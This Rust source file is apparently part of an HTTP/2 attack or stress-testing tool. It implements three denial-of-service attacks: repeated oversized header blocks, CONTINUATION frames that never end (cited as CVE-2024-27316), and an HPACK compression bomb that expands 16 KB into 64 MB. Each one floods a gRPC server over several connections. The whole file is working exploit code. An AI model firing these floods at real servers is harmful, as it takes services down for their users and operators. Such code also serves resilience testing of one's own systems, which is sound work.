//! Headers that are large, that never end, or that grow when they are decoded.

use std::sync::Arc;

use super::{
    Attack,
    calls::GET_SESSION,
    connection::{PAUSE, connect, play_and_read, swarm},
    frames::{self, CONTINUATION, END_STREAM, HEADERS, MAX_PAYLOAD},
};

const CONNECTIONS: usize = 8;

/// 60 fields of 1,000 bytes, on call after call.
pub async fn large(attack: &Arc<Attack>) -> anyhow::Result<()> {
    bomb(attack, || {
        let mut block = frames::call(GET_SESSION, None);
        for number in 0..60 {
            frames::literal(&mut block, 0, &format!("x-{number}"), &"y".repeat(1000));
        }
        let mut call = 0;
        move || {
            call += 1;
            frames::header_frames(frames::stream(call), END_STREAM, &block)
        }
    })
    .await
}

/// CONTINUATION frames without an end: by turns empty ones and full ones (CVE-2024-27316).
pub async fn continuation(attack: &Arc<Attack>) -> anyhow::Result<()> {
    bomb(attack, || {
        let mut field = Vec::new();
        frames::literal(&mut field, 0, "x", &"y".repeat(1000));
        let mut sent = 0;
        move || {
            sent += 1;
            match sent {
                1 => frames::frame(HEADERS, END_STREAM, 1, &frames::call(GET_SESSION, None)),
                _ if sent % 2 == 0 => frames::frame(CONTINUATION, 0, 1, &[]),
                _ => frames::frame(CONTINUATION, 0, 1, &field),
            }
        }
    })
    .await
}

/// A field of 4,000 bytes in the table, and then a byte for each use of it: 16 KB that are 64 MB when they are decoded.
pub async fn hpack(attack: &Arc<Attack>) -> anyhow::Result<()> {
    /// The newest entry of the table, after the 61 that everybody has.
    const NEWEST: u8 = 0x80 | 62;
    bomb(attack, || {
        let mut call = 0;
        move || {
            let mut block = frames::call(GET_SESSION, None);
            frames::literal(&mut block, 0x40, "x", &"y".repeat(4000));
            block.resize(MAX_PAYLOAD, NEWEST);
            call += 1;
            frames::header_frames(frames::stream(call), END_STREAM, &block)
        }
    })
    .await
}

/// Sends what `bombs` makes for each connection, as fast as it is taken, and reads what comes back.
async fn bomb<Next: FnMut() -> Vec<u8> + Send + 'static>(
    attack: &Arc<Attack>,
    bombs: impl Fn() -> Next + Clone + Send + Sync + 'static,
) -> anyhow::Result<()> {
    attack.begin().await?;
    swarm(attack, CONNECTIONS, Some(PAUSE), move |attack, _| {
        let next = bombs();
        async move {
            let mut connection = connect(&attack, attack.grpc, 0, None).await?;
            connection.write.send(&frames::greeting()).await?;
            Ok(play_and_read(&attack, connection, async move |write| write.flood(next, 1).await).await)
        }
    })
    .await
}
